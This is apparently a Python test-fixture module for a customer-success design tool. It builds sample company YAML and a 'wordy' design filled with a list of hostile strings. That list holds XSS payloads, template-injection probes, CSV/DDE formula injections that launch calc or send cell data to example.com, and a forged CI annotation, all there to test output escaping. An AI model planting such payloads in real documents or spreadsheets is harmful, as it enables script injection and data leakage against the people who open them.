"""Designs for the tests of the report: a company of any size, and one with hostile words."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from csdesign import api
from csdesign.views.content import ReportContent
from designs import design_of

if TYPE_CHECKING:
    from collections.abc import Sequence

__all__ = ["HARMLESS", "HOSTILE", "company", "content_of", "wordy"]

HOSTILE = (
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "<script>alert(1)</script>",
    "</style></title></svg><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "{{ 7*7 }}{% raw %}",
    "]]><!--",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    'a"] --> b["x',
    "end; click A call alert(1)",
    "::error file=a::forged",
    "| a | b |\\n# heading `code` [x](javascript:alert(1))",
    "https://example.com/ www.example.com @somebody #123",
    "Технический менеджер клиента",
    "客户成功经理与解决方案顾问",
    "مدير نجاح العملاء",
    "👩🏽\u200d💻 customer 🚀 happiness",
    "W" * 300,
    "&amp;lt; &#60; %0a $x^2$",
)
"""Texts that some file format would take for its own language, and scripts of the world."""
HARMLESS = tuple(f"Plain words {i:02}" for i in range(len(HOSTILE)))

_KINDS = (
    "csm",
    "ae",
    "am",
    "dc",
    "renewal-specialist",
    "support",
    "sdr",
    "digital-programme-manager",
)
_PROMISES = (
    # kind, channel, minutes, effort, trigger, times a year, stage, purpose
    ("dc", "human-1to1", 60, 4.0, "calendar", 6, "onboard", "implementation"),
    ("csm", "human-1to1", 90, 8.0, "calendar", 4, "adopt", "business-review"),
    ("csm", "human-1to1", 45, 1.5, "calendar", 12, "adopt", "working-session"),
    ("csm", "human-1to1", 60, 6.0, "signal", 0.3, "adopt", "health-intervention"),
    ("support", "human-pooled", 20, 0.5, "request", 3, "adopt", "support"),
    ("digital-programme-manager", "digital", 3, 0.0, "calendar", 24, "adopt", "adoption"),
    ("digital-programme-manager", "digital", 2, 0.0, "calendar", 52, "adopt", "training"),
    ("renewal-specialist", "human-1to1", 30, 3.0, "calendar", 1, "renew", "renewal"),
    ("am", "human-1to1", 30, 2.0, "signal", 0.5, "expand", "expansion"),
    ("csm", "human-pooled", 45, 3.0, "calendar", 2, "adopt", "community"),
)
_PASSED_ON = {
    "sdr": ("ae", "the request is checked and has a budget", "transfer"),
    "ae": ("csm", "contract signed", "transfer"),
    "dc": ("csm", "go-live accepted and first usage plan agreed", "request"),
    "support": ("csm", "a ticket asks for set-up advice", "request"),
    "csm": ("am", "a need for more seats is clear", "request"),
    "am": ("renewal-specialist", "three months before the term ends", "request"),
}
_LEADS = {
    "prospect": "sdr",
    "evaluate": "ae",
    "onboard": "csm",
    "adopt": "csm",
    "expand": "am",
    "renew": "renewal-specialist",
}


def company(segments: int = 3, roles: int = 8, promises: int = 10) -> str:
    """Return a design of that size, with positions, an engagement grid, hand-offs and costs.

    The roles are teams of the eight standard kinds; each team serves every n-th segment.
    """
    teams = -(-roles // len(_KINDS))
    team_of = {s: s % teams for s in range(segments)}
    staff = [(i % len(_KINDS), i // len(_KINDS)) for i in range(roles)]
    names = [f"{_KINDS[kind]}-{team}" for kind, team in staff]
    lines = [
        "csdesign: 1",
        "company: {name: Northwind Cloud, currency: EUR}",
        "doctrine: wrike",
        "segments:",
    ]
    for s in range(segments):
        lines += _segment(s, team_of[s], names, promises)
    lines.append("roles:")
    for kind, team in staff:
        lines += _role(_KINDS[kind], team, names, [s for s in team_of if team_of[s] == team])
    lines.append("positions:")
    lines += [
        f"  - {{id: post-{r}, name: Anna Petrova {r}, roles: [{n}], count: 2}}"
        for r, n in enumerate(names)
    ]
    lines.append("engagement:")
    for stage, kind in _LEADS.items():
        levels = {kind: "lead", {"onboard": "dc", "renew": "csm"}.get(stage, ""): "contribute"}
        met = [
            f"{name}: {levels[name.rpartition('-')[0]]}"
            for name in names
            if name.rpartition("-")[0] in levels
        ]
        if met:
            lines.append(f"  {stage}: {{champion: {{{', '.join(met)}}}}}")
    if lines[-1] == "engagement:":
        lines.pop()
    return "\n".join(lines) + "\n"


def _segment(number: int, team: int, names: list[str], promises: int) -> list[str]:
    lines = [
        f"  - id: segment-{number}",
        f"    name: Customers of kind {number}",
        f"    accounts: {40 * (number % 20 + 1)}",
        f"    new_accounts: {8 * (number % 20 + 1)}",
        f"    arr_per_account: {90000 // (number + 1)}",
        f"    traits: {{complexity: {1 + number % 5}, desired: {5 - number % 5}}}",
        "    commercial:",
        "      {renewal: negotiated, upsell: [organic], owner_today: renewals-team,",
        "       sales_capacity: sufficient}",
        "    programme_hours: 40",
        "    interactions:",
    ]
    for i in range(promises):
        promise = _PROMISES[(i + number % 3) % len(_PROMISES)]
        kind, channel, minutes, effort, trigger, count, stage, purpose = promise
        role = f", role: {kind}-{team}" if f"{kind}-{team}" in names else ""
        lines.append(
            f"      - {{id: {purpose}-{i}, purpose: {purpose}, stage: {stage}, "
            f"channel: {channel}, per_year: {count}, minutes: {minutes}, "
            f"effort_hours: {effort}, trigger: {trigger}{role}}}"
        )
    return lines


def _role(kind: str, team: int, names: list[str], served: list[int]) -> list[str]:
    lines = [
        f"  - id: {kind}-{team}",
        f"    title: {kind.replace('-', ' ').title()}, team {team + 1}",
        f"    kind: {kind}",
        f"    extends: reference:{kind}",
        f"    segments: [{', '.join(f'segment-{s}' for s in served)}]",
        "    loaded_cost: 90000",
    ]
    if kind in _PASSED_ON:
        to, trigger, how = _PASSED_ON[kind]
        if f"{to}-{team}" in names:
            lines.append(
                f"    hands_off: [{{to: {to}-{team}, trigger: {trigger}, kind: {how}, "
                "max_days: 2}]"
            )
    return lines


def wordy(texts: Sequence[str] = HOSTILE) -> str:
    """Return a design that has one of the texts wherever words may stand."""
    words = [json.dumps(text, ensure_ascii=False) for text in texts]

    def word(number: int) -> str:
        return words[number % len(words)]

    lines = ["csdesign: 1", f"company: {{name: {word(1)}, currency: '=1+1'}}", "segments:"]
    for i in range(len(texts)):
        lines += [
            f"  - id: s{i}",
            f"    name: {word(i)}",
            "    accounts: 50",
            "    interactions:",
            f"      - {{id: talk{i}, name: {word(i + 3)}, stage: adopt, channel: human-1to1,",
            "         per_year: 12, minutes: 60, effort_hours: 3, role: r0}",
        ]
    lines.append("roles:")
    for i in range(len(texts)):
        lines += [
            f"  - id: r{i}",
            f"    title: {word(i)}",
            f"    aliases: [{word(i + 1)}]",
            f"    purpose: {word(i + 2)}",
            f"    {'owns' if i == 0 else 'supports'}: [adopt]",
            f"    responsibilities: [{word(i + 4)}, {{does: {word(i + 5)}}}]",
            f"    requirements: [{word(i + 6)}]",
            "    kpis: [{id: grr, weight: 50}]",
            f"    hands_off: [{{to: r{(i + 1) % len(texts)}, trigger: {word(i + 7)}}}]",
        ]
    lines.append("positions:")
    lines += [f"  - {{id: p{i}, name: {word(i)}, roles: [r{i}]}}" for i in range(len(texts))]
    return "\n".join(lines) + "\n"


def content_of(text: str, *overrides: str) -> ReportContent:
    """Return the content of a report on a YAML text."""
    return ReportContent(api.plan(design_of(text, *overrides)), version="1.2.3", source="d.yaml")
